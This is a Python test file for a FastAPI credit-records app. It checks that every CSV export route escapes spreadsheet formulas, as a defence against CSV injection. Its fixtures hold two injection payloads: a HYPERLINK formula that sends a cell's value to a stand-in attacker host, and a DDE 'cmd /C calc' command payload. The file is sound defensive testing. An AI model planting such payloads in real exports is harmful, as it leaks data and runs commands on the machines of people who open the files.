"""Every CSV route of the app neutralises formulas (issue 12 item 5; OWASP CSV injection).

The routes are found by walking the app (every path ending in ``.csv``), so a new export is
covered — or this test fails until it is given a reader below. A record whose subject name and
facts begin with ``=``/``@``/``-``/``+`` is delivered first; every export is read by an account
that may read it, and no cell may begin with a formula character.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from bench.import_rate import HEADER
from fastapi import FastAPI
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from tests.e2e.api.test_records import api as api
from tests.e2e.api.test_records import body, login
from tests.factories.accounts import make_user
from tests.integration.records.test_service import penalty_fields
from xinyong.core.actor import Role
from xinyong.core.clock import Clock
from xinyong.core.tabular import FORMULA_TRIGGERS

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
FACT = "@SUM(1+1)*cmd|' /C calc'!A0"

#: Who reads each CSV route, and the path to ask (path parameters filled in).
READERS: dict[str, tuple[str, str]] = {
    "/catalogue.csv": ("", "/catalogue.csv"),
    "/provider/records.csv": ("sjj", "/provider/records.csv"),
    "/provider/batches/{batch_id}/rejected.csv": ("sjj", "/provider/batches/{batch}/rejected.csv"),
    "/office/catalogue.csv": ("office1", "/office/catalogue.csv"),
    "/office/catalogue/{code}/opinions.csv":
        ("office1", "/office/catalogue/admin_penalty/opinions.csv"),
    "/office/violations.csv": ("office1", "/office/violations.csv"),
    "/audit/inquiries.csv": ("auditor1", "/audit/inquiries.csv"),
    "/api/v1/records/export.csv": ("sjj", "/api/v1/records/export.csv?item=admin_penalty"),
    "/api/v1/dashboard/{panel}.csv": ("office1", "/api/v1/dashboard/deliveries_by_provider.csv"),
    "/api/v1/supervision/providers.csv": ("office1", "/api/v1/supervision/providers.csv"),
    "/api/v1/supervision/mine.csv": ("sjj", "/api/v1/supervision/mine.csv"),
    "/api/v1/inquiries.csv": ("auditor1", "/api/v1/inquiries.csv"),
    "/api/v1/institutions.csv": ("office1", "/api/v1/institutions.csv"),
    "/office/agreements.csv": ("office1", "/office/agreements.csv"),
    "/admin/users.csv": ("sysadmin1", "/admin/users.csv"),
    "/admin/organisations.csv": ("sysadmin1", "/admin/organisations.csv"),
    "/audit/entries.csv": ("auditor1", "/audit/entries.csv"),
    "/provider/templates/{code}.csv": ("sjj", "/provider/templates/admin_penalty.csv"),
    "/public/lists.csv": ("", "/public/lists.csv"),
    "/office/grades.csv": ("office1", "/office/grades.csv"),
}  # fmt: skip
#: Exports that show the delivered record, and so must show its values neutralised.
#: Exports that need a world of their own, walked (cells checked) by their own tests.
WALKED_ELSEWHERE = {
    "/api/v1/checks/batches/{batch_id}/results.csv": "tests/e2e/api/test_check_batches.py",
    "/api/v1/public/open-data/{item}/{day}.csv": (
        "tests/integration/publication/test_public_server.py"
    ),
}

SHOWS_THE_RECORD = {"/provider/records.csv", "/api/v1/records/export.csv"}


def csv_routes(app: FastAPI) -> set[str]:
    return {c.path for c in iter_route_contexts(app.routes) if c.path.endswith(".csv")}


@pytest.fixture
def seeded(api: FastAPI, client: TestClient, db: Session, clock: Clock) -> dict[str, Any]:
    make_user(db, at=clock.now(), role=Role.AUDITOR, username="auditor1")
    make_user(db, at=clock.now(), role=Role.SYSADMIN, username="sysadmin1")
    sjj = login(client, "sjj")
    subject = {"type": "legal_person", "id": "91520000214434146R", "name": NAME}
    record = body(subject=subject, fields=penalty_fields(XDR_MC=NAME, CF_WFXW=FACT))
    r = client.post("/api/v1/records", json=record, headers=sjj)
    assert r.status_code == 201, r.text
    upload = (",".join(HEADER) + "\n-1+1,=2+3\n").encode()  # a row rejected
    r = client.post(
        "/api/v1/records/batches", data={"item": "admin_penalty"},
        files={"file": ("f.csv", upload, "text/csv")}, headers=sjj,
    )  # fmt: skip
    assert r.status_code == 200, r.text
    assert r.json()["rejected"]
    return {"batch": r.json()["batch_id"]}


def test_every_csv_route_is_walked(app: FastAPI) -> None:
    assert csv_routes(app) == set(READERS) | set(WALKED_ELSEWHERE)


@pytest.mark.parametrize("route", sorted(READERS))
def test_no_cell_of_any_export_is_a_formula(
    route: str, seeded: dict[str, Any], client: TestClient
) -> None:
    username, path = READERS[route]
    headers = login(client, username) if username else {}
    r = client.get(path.format(**seeded), headers=headers)
    assert r.status_code == 200, (route, r.status_code, r.text[:300])
    assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    assert rows, route
    formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]
    assert formulas == [], route
    if route in SHOWS_THE_RECORD:
        cells = {cell for row in rows for cell in row}
        assert "'" + NAME in cells, route
    if route == "/api/v1/records/export.csv":
        assert "'" + FACT in cells


def test_an_export_re_delivered_is_unchanged(seeded: dict[str, Any], client: TestClient) -> None:
    """The ``'`` before a formula character comes off when the file is delivered again, so the
    双公示 round trip (export, re-import) still yields "unchanged"."""
    sjj = login(client, "sjj")
    export = client.get("/api/v1/records/export.csv?item=admin_penalty", headers=sjj)
    cells = {c for row in csv.reader(io.StringIO(export.text.lstrip("\ufeff"))) for c in row}
    assert "'" + NAME in cells
    r = client.post(
        "/api/v1/records/batches", data={"item": "admin_penalty"},
        files={"file": ("again.csv", export.content, "text/csv")}, headers=sjj,
    )  # fmt: skip
    assert r.status_code == 200, r.text
    assert r.json()["accepted"] == 0
    assert r.json()["unchanged"] == 1
    assert r.json()["rejected"] == []
